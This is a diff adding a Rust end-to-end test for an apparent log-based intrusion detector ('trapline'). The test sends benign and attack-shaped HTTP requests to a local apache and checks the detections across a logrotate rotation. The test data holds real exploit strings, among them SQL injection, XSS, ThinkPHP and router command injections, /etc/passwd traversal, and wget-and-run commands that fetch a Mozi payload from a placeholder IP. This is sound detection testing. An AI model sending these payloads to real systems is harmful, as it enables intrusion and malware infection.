@@ -1,0 +1,494 @@
+//! End to end with the parts a user really has: Debian's `apache2` serving real HTTP requests
+//! and writing its combined access log, Debian-style `logrotate` rotating that log (with a
+//! graceful apache restart in `postrotate`) while requests keep coming, and `trapline run`
+//! tailing the log with the shipped rules.
+//!
+//! Every request carries a unique marker in its User-Agent (`e2e-marker-NNN`), so each
+//! detection maps back to the request that caused it. Attacks must each be detected exactly
+//! once by the rules they are tagged with; benign requests must never be detected.
+//!
+//! Without `apache2` or `logrotate` the test prints "skipped: ..." and passes, unless
+//! `TRAPLINE_E2E_REQUIRED=1` is set (as in CI), in which case it fails.
+
+mod common;
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::io::{Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use common::{Daemon, detections, wait_for};
+
+const APACHE: &str = "/usr/sbin/apache2";
+const MODULES: &str = "/usr/lib/apache2/modules";
+const MARKER: &str = "e2e-marker-";
+const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
+const GOOGLEBOT: &str = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
+
+/// One HTTP request sent to apache. `rules` empty = benign.
+struct Req {
+    method: &'static str,
+    target: &'static str,
+    ua: &'static str,
+    body: &'static str,
+    rules: &'static [&'static str],
+}
+
+const fn get(target: &'static str) -> Req {
+    Req { method: "GET", target, ua: FIREFOX, body: "", rules: &[] }
+}
+
+const fn attack(method: &'static str, target: &'static str, rules: &'static [&'static str]) -> Req {
+    Req { method, target, ua: FIREFOX, body: "", rules }
+}
+
+/// Benign and attack requests, interleaved; the first half is sent before the rotation, the
+/// second half while and after logrotate runs. Comments say what apache logs for the odd ones.
+fn requests() -> Vec<Req> {
+    vec![
+        get("/"),
+        attack("GET", "/phpMyAdmin/index.php?pma_username=root&pma_password=toor", &["honeypot.phpmyadmin-login"]),
+        get("/index.html"),
+        attack("GET", "/item.php?id=1+UNION+SELECT+1,2", &["honeypot.sqli"]),
+        get("/about.html"),
+        attack("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", &["honeypot.xss"]),
+        get("/images/logo.png"),
+        // POST with a body: only the request line is logged.
+        Req {
+            body: "remote_submit_Flag=1&remote_host=%3Bcd+%2Ftmp",
+            ..attack("POST", "/cgi-bin/ViewLog.asp", &["honeypot.zyxel"])
+        },
+        get("/search?q=tom+and+jerry"),
+        attack("GET", "/?XDEBUG_SESSION_START=phpstorm", &["honeypot.xdebug"]),
+        Req { ua: GOOGLEBOT, ..get("/") },
+        // Backslashes are logged escaped: `/Index/\\think\\app/...`.
+        attack(
+            "GET",
+            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
+            &["honeypot.thinkphp"],
+        ),
+        // A `..` segment: apache answers 400 (AH10244 invalid URI path) and logs the raw target.
+        attack("GET", "/static/../../../etc/passwd", &["honeypot.traversal", "honeypot.etc-passwd"]),
+        // ---- second half: sent while logrotate rotates and apache restarts gracefully ----
+        get("/blog/2024/10/hello-world"),
+        Req { body: "deviceName=x", ..attack("POST", "/goform/setUsbUnload/.js", &["honeypot.tenda"]) },
+        get("/css/site.css"),
+        attack("GET", "/shell?cd+/tmp;wget+http://192.0.2.5/x", &["honeypot.shell-download"]),
+        get("/docs/v1..v2/diff"),
+        attack("GET", "/robots.txt", &["honeypot.site-mapping"]),
+        get("/search?q=100%25+cotton"),
+        attack(
+            "GET",
+            "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.5:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
+            &["honeypot.netgear"],
+        ),
+        Req { method: "HEAD", ..get("/index.html") },
+        // CVE-2021-41773 shape: 400 from apache, logged as sent.
+        attack("GET", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", &["honeypot.etc-passwd"]),
+        get("/images/logo.png"),
+        attack(
+            "GET",
+            "/%2e%2e/%2e%2e/%2e%2e/%65%74%63/%70%61%73%73%77%64",
+            &["honeypot.obfuscation", "honeypot.etc-passwd"],
+        ),
+        Req { ua: GOOGLEBOT, ..get("/about.html") },
+    ]
+}
+
+/// Files under the DocumentRoot, so every benign request is answered 200.
+const SITE: &[&str] = &[
+    "index.html",
+    "about.html",
+    "images/logo.png",
+    "css/site.css",
+    "search",
+    "blog/2024/10/hello-world",
+    "docs/v1..v2/diff",
+    "robots.txt",
+];
+
+#[test]
+fn apache_logrotate_trapline_end_to_end() {
+    let required = std::env::var("TRAPLINE_E2E_REQUIRED").is_ok_and(|v| v == "1");
+    let logrotate = ["/usr/sbin/logrotate", "/sbin/logrotate", "/usr/bin/logrotate"]
+        .into_iter()
+        .map(PathBuf::from)
+        .find(|p| p.exists());
+    let missing: Vec<&str> = [
+        (!Path::new(APACHE).exists()).then_some(APACHE),
+        (!Path::new(MODULES).join("mod_mpm_event.so").exists()).then_some("apache2 modules"),
+        logrotate.is_none().then_some("logrotate"),
+    ]
+    .into_iter()
+    .flatten()
+    .collect();
+    if !missing.is_empty() {
+        let msg = format!("{} not installed (apt-get install apache2 logrotate)", missing.join(", "));
+        assert!(!required, "TRAPLINE_E2E_REQUIRED=1 but {msg}");
+        eprintln!("skipped: e2e_apache: {msg}");
+        return;
+    }
+    let logrotate = logrotate.unwrap();
+
+    // Drop order matters: daemon and apache stop before the directory is removed.
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().to_path_buf();
+    // Apache's workers run as www-data when we are root: they must reach the DocumentRoot.
+    std::fs::set_permissions(&root, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let logs = root.join("logs");
+    let access = logs.join("access.log");
+    let out = root.join("out/out.txt");
+    for d in ["logs", "out", "apache/run", "trapline"] {
+        std::fs::create_dir_all(root.join(d)).unwrap();
+    }
+
+    let apache = Apache::start(&root);
+    let first_inode = std::fs::metadata(&access).expect("apache did not create access.log").ino();
+
+    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
+    let config = root.join("trapline/trapline.yml");
+    std::fs::write(
+        &config,
+        format!(
+            "rules: [{rules}]\nstate_dir: {state}\nsources:\n  - name: apache\n    paths: [{access}]\n    format: combined\n    start: end\nactions:\n  log: {{path: {out}, format: json, console: false}}\n",
+            rules = rules.display(),
+            state = root.join("trapline/state").display(),
+            access = access.display(),
+            out = out.display(),
+        ),
+    )
+    .unwrap();
+    let mut daemon = Daemon::start(&config);
+
+    let reqs = requests();
+    let half = reqs.len() / 2;
+    let expected_upto = |n: usize| -> BTreeSet<(usize, String)> {
+        reqs[..n].iter().enumerate().flat_map(|(i, r)| r.rules.iter().map(move |id| (i, id.to_string()))).collect()
+    };
+    let mut statuses = vec![0u16; reqs.len()];
+
+    // Phase 1: half the requests, all detected before anything is rotated.
+    for (i, r) in reqs[..half].iter().enumerate() {
+        statuses[i] = send(apache.port, i, r);
+    }
+    wait_detected(&out, &expected_upto(half), &access, &daemon, "before rotation");
+
+    // Phase 2: logrotate (rename, create, graceful restart in postrotate) while requests keep
+    // coming: some land in the renamed file before apache reopens its log, some in the new one.
+    let lr_conf = root.join("logrotate.conf");
+    std::fs::write(&lr_conf, logrotate_conf(&access, &apache.conf)).unwrap();
+    let lr = Command::new(&logrotate)
+        .arg("-f")
+        .arg("-s")
+        .arg(root.join("logrotate.state"))
+        .arg(&lr_conf)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("run logrotate");
+    for (i, r) in reqs.iter().enumerate().skip(half) {
+        statuses[i] = send(apache.port, i, r);
+    }
+    let lr = lr.wait_with_output().unwrap();
+    assert!(
+        lr.status.success(),
+        "logrotate failed ({}):\n{}{}",
+        lr.status,
+        String::from_utf8_lossy(&lr.stdout),
+        String::from_utf8_lossy(&lr.stderr)
+    );
+
+    // The log really was rotated: the old file renamed to access.log.1, a new access.log.
+    let rotated = logs.join("access.log.1");
+    assert!(rotated.exists(), "logrotate did not produce {}", rotated.display());
+    assert_eq!(std::fs::metadata(&rotated).unwrap().ino(), first_inode, "access.log.1 is not the old access.log");
+    assert_ne!(std::fs::metadata(&access).unwrap().ino(), first_inode, "access.log was not replaced");
+
+    let all = expected_upto(reqs.len());
+    wait_detected(&out, &all, &access, &daemon, "after rotation");
+
+    // Apache logged every request exactly once (across both files): the ground truth.
+    let lines = access_lines(&[&rotated, &access]);
+    for (i, r) in reqs.iter().enumerate() {
+        let n = lines.iter().filter(|(_, l)| marker_of(l) == Some(i)).count();
+        assert_eq!(n, 1, "request {i} ({}) appears {n} times in apache's logs", r.target);
+    }
+
+    // Give any late duplicate a chance to show, then check: exactly once, nothing benign.
+    std::thread::sleep(Duration::from_millis(1500));
+    let before = std::fs::read_to_string(&out).unwrap();
+    check(&reqs, &all, &counts(&out));
+
+    let took = daemon.signal("TERM");
+    assert!(took < Duration::from_secs(5), "SIGTERM took {took:?}");
+    assert!(!daemon.stderr().contains("panicked"), "trapline panicked:\n{}", daemon.stderr());
+    let after = std::fs::read_to_string(&out).unwrap();
+    assert_eq!(before, after, "detections changed after SIGTERM");
+    let c = counts(&out);
+    check(&reqs, &all, &c);
+
+    // Summary.
+    let file_of =
+        |i: usize| lines.iter().find(|(_, l)| marker_of(l) == Some(i)).map_or("?", |(f, _)| f.as_str()).to_string();
+    eprintln!(
+        "\ne2e_apache: {} requests, {} detections, apache port {}",
+        reqs.len(),
+        detections(&out).len(),
+        apache.port
+    );
+    for (i, r) in reqs.iter().enumerate() {
+        let fired: Vec<&str> = c.keys().filter(|(m, _)| *m == i).map(|(_, id)| id.as_str()).collect();
+        let what = if fired.is_empty() { "-".to_string() } else { fired.join(", ") };
+        let t: String = r.target.chars().take(60).collect();
+        eprintln!("  {i:>2} {:<4} {:<60} {} {:<12} {what}", r.method, t, statuses[i], file_of(i));
+    }
+    eprintln!("apache's log lines for the requests it rejected (non-2xx):");
+    for (_, l) in lines.iter().filter(|(_, l)| !l.contains("\" 200 ")) {
+        eprintln!("  {l}");
+    }
+}
+
+/// Waits (≤ 20 s) until every expected (marker, rule) pair has a detection.
+fn wait_detected(out: &Path, expected: &BTreeSet<(usize, String)>, log: &Path, d: &Daemon, when: &str) {
+    let missing = || -> Vec<(usize, String)> {
+        let c = counts(out);
+        expected.iter().filter(|k| !c.contains_key(*k)).cloned().collect()
+    };
+    if !wait_for(Duration::from_secs(20), || missing().is_empty()) {
+        let logs = access_lines(&[&log.with_extension("log.1"), log]);
+        panic!(
+            "{when}: missing detections (request, rule): {:?}\napache logged:\n{}\ntrapline stderr (tail):\n{}",
+            missing(),
+            logs.iter().map(|(f, l)| format!("  [{f}] {l}\n")).collect::<String>(),
+            tail(&d.stderr(), 40)
+        );
+    }
+}
+
+/// Asserts each expected pair was detected exactly once, and nothing else for the requests
+/// (an attack may also match another rule, but never twice; a benign request never).
+fn check(reqs: &[Req], expected: &BTreeSet<(usize, String)>, c: &BTreeMap<(usize, String), usize>) {
+    for k in expected {
+        assert_eq!(
+            c.get(k).copied(),
+            Some(1),
+            "request {} rule {}: want exactly one detection, counts: {c:?}",
+            k.0,
+            k.1
+        );
+    }
+    for ((i, id), n) in c {
+        assert!(*i < reqs.len(), "detection with unknown marker {i} ({id})");
+        assert!(!reqs[*i].rules.is_empty(), "benign request {i} ({}) detected by {id}", reqs[*i].target);
+        assert_eq!(*n, 1, "request {i} ({}) detected {n} times by {id}", reqs[*i].target);
+    }
+}
+
+/// Detections per (request marker, rule id). A detection without a marker is a failure.
+fn counts(out: &Path) -> BTreeMap<(usize, String), usize> {
+    let mut m = BTreeMap::new();
+    for d in detections(out) {
+        let line = d["line"].as_str().unwrap_or_default();
+        let id = d["rule"]["id"].as_str().unwrap_or_default().to_string();
+        let i = marker_of(line).unwrap_or_else(|| panic!("detection {id} of a line without a marker: {line}"));
+        *m.entry((i, id)).or_default() += 1;
+    }
+    m
+}
+
+fn marker_of(line: &str) -> Option<usize> {
+    let rest = &line[line.find(MARKER)? + MARKER.len()..];
+    rest[..rest.find(|c: char| !c.is_ascii_digit()).unwrap_or(rest.len())].parse().ok()
+}
+
+/// (file name, line) of every line of the given logs that exist.
+fn access_lines(files: &[&Path]) -> Vec<(String, String)> {
+    files
+        .iter()
+        .flat_map(|f| {
+            let name = f.file_name().unwrap().to_string_lossy().to_string();
+            let text = std::fs::read_to_string(f).unwrap_or_default();
+            text.lines().map(|l| (name.clone(), l.to_string())).collect::<Vec<_>>()
+        })
+        .collect()
+}
+
+fn tail(s: &str, n: usize) -> String {
+    let lines: Vec<&str> = s.lines().collect();
+    lines[lines.len().saturating_sub(n)..].join("\n")
+}
+
+/// Sends one raw HTTP/1.1 request (the exact bytes of the target reach apache) and reads the
+/// whole response; returns the status code.
+fn send(port: u16, marker: usize, r: &Req) -> u16 {
+    let ua = format!("{} {MARKER}{marker:03}", r.ua);
+    let mut req = format!(
+        "{} {} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: {ua}\r\nAccept: */*\r\nConnection: close\r\n",
+        r.method, r.target
+    );
+    if !r.body.is_empty() {
+        req.push_str(&format!(
+            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n",
+            r.body.len()
+        ));
+    }
+    req.push_str("\r\n");
+    req.push_str(r.body);
+
+    // Only connecting is retried: once bytes are sent, a retry could log the request twice.
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let mut s = loop {
+        match TcpStream::connect(("127.0.0.1", port)) {
+            Ok(s) => break s,
+            Err(e) if Instant::now() < deadline => {
+                eprintln!("connect to apache failed ({e}), retrying");
+                std::thread::sleep(Duration::from_millis(100));
+            }
+            Err(e) => panic!("cannot connect to apache on port {port}: {e}"),
+        }
+    };
+    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+    s.write_all(req.as_bytes()).unwrap();
+    let mut resp = Vec::new();
+    s.read_to_end(&mut resp).unwrap_or_else(|e| panic!("reading the response to {} {}: {e}", r.method, r.target));
+    let head = String::from_utf8_lossy(&resp[..resp.len().min(64)]).to_string();
+    let status: u16 = head
+        .strip_prefix("HTTP/1.1 ")
+        .and_then(|s| s.get(..3))
+        .and_then(|s| s.parse().ok())
+        .unwrap_or_else(|| panic!("bad response to {} {}: {head:?}", r.method, r.target));
+    if r.rules.is_empty() {
+        assert_eq!(status, 200, "benign {} {} was not served", r.method, r.target);
+    }
+    status
+}
+
+/// Debian's logrotate config for apache (/etc/logrotate.d/apache2), pointed at our instance.
+fn logrotate_conf(log: &Path, apache_conf: &Path) -> String {
+    let has_adm = std::fs::read_to_string("/etc/group").unwrap_or_default().lines().any(|l| l.starts_with("adm:"));
+    let create = if is_root() && has_adm { "create 640 root adm" } else { "create" };
+    format!(
+        "{log} {{\n\tdaily\n\tmissingok\n\trotate 3\n\tcompress\n\tdelaycompress\n\tnotifempty\n\t{create}\n\tsharedscripts\n\tpostrotate\n\t\t{APACHE} -f '{conf}' -k graceful\n\tendscript\n}}\n",
+        log = log.display(),
+        conf = apache_conf.display(),
+    )
+}
+
+fn is_root() -> bool {
+    std::fs::metadata("/proc/self").map(|m| m.uid() == 0).unwrap_or(false)
+}
+
+/// A private apache instance; stopped (and killed if need be) when dropped, also on panic.
+struct Apache {
+    conf: PathBuf,
+    port: u16,
+    child: Child,
+}
+
+impl Apache {
+    fn start(root: &Path) -> Apache {
+        let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
+        let www = root.join("www");
+        for f in SITE {
+            let p = www.join(f);
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            std::fs::write(&p, format!("<html><body>{f}</body></html>\n")).unwrap();
+        }
+        let run = root.join("apache/run");
+        std::fs::write(root.join("apache/mime.types"), "text/html html\ntext/css css\nimage/png png\ntext/plain txt\n")
+            .unwrap();
+        // Workers run as www-data when we are root (apache refuses to serve as root).
+        let user = if is_root() {
+            let passwd = std::fs::read_to_string("/etc/passwd").unwrap_or_default();
+            let (u, g) = if passwd.lines().any(|l| l.starts_with("www-data:")) {
+                ("www-data", "www-data")
+            } else {
+                ("nobody", "nogroup")
+            };
+            format!("User {u}\nGroup {g}\n")
+        } else {
+            String::new()
+        };
+        let m = MODULES;
+        let conf = root.join("apache/apache2.conf");
+        std::fs::write(
+            &conf,
+            format!(
+                r#"ServerRoot "{ar}"
+LoadModule mpm_event_module {m}/mod_mpm_event.so
+LoadModule authz_core_module {m}/mod_authz_core.so
+LoadModule mime_module {m}/mod_mime.so
+LoadModule dir_module {m}/mod_dir.so
+Listen 127.0.0.1:{port}
+ServerName localhost
+{user}PidFile "{run}/apache2.pid"
+DefaultRuntimeDir "{run}"
+Mutex file:{run} default
+ErrorLog "{ar}/error.log"
+LogLevel warn
+TypesConfig "{ar}/mime.types"
+DocumentRoot "{www}"
+<Directory />
+    Require all denied
+</Directory>
+<Directory "{www}">
+    Require all granted
+</Directory>
+DirectoryIndex index.html
+LogFormat "%h %l %u %t \"%r\" %>s %O \"%{{Referer}}i\" \"%{{User-Agent}}i\"" combined
+CustomLog "{log}" combined
+"#,
+                ar = root.join("apache").display(),
+                run = run.display(),
+                www = www.display(),
+                log = root.join("logs/access.log").display(),
+            ),
+        )
+        .unwrap();
+
+        // In the foreground (still `-k start`) so apache's main process is our child: we reap it
+        // and can always kill it, and logrotate's `-k graceful` signals it through the pid file.
+        let console = root.join("apache/console.log");
+        let child = Command::new(APACHE)
+            .arg("-f")
+            .arg(&conf)
+            .args(["-k", "start", "-D", "FOREGROUND"])
+            .stdout(Stdio::null())
+            .stderr(std::fs::File::create(&console).unwrap())
+            .spawn()
+            .expect("run apache2");
+        let mut a = Apache { conf, port, child };
+        let errors = || {
+            let read = |p: PathBuf| std::fs::read_to_string(p).unwrap_or_default();
+            format!("{}{}", read(console.clone()), read(root.join("apache/error.log")))
+        };
+        let pidfile = run.join("apache2.pid");
+        let up = wait_for(Duration::from_secs(15), || {
+            if let Some(st) = a.child.try_wait().unwrap() {
+                panic!("apache2 exited at start ({st}):\n{}", errors());
+            }
+            pidfile.exists() && TcpStream::connect(("127.0.0.1", port)).is_ok()
+        });
+        assert!(up, "apache did not come up on port {port}:\n{}", errors());
+        a
+    }
+}
+
+impl Drop for Apache {
+    fn drop(&mut self) {
+        let _ = Command::new(APACHE)
+            .arg("-f")
+            .arg(&self.conf)
+            .args(["-k", "stop"])
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status();
+        if !wait_for(Duration::from_secs(10), || self.child.try_wait().is_ok_and(|s| s.is_some())) {
+            let _ = self.child.kill();
+            let _ = self.child.wait();
+        }
+    }
+}
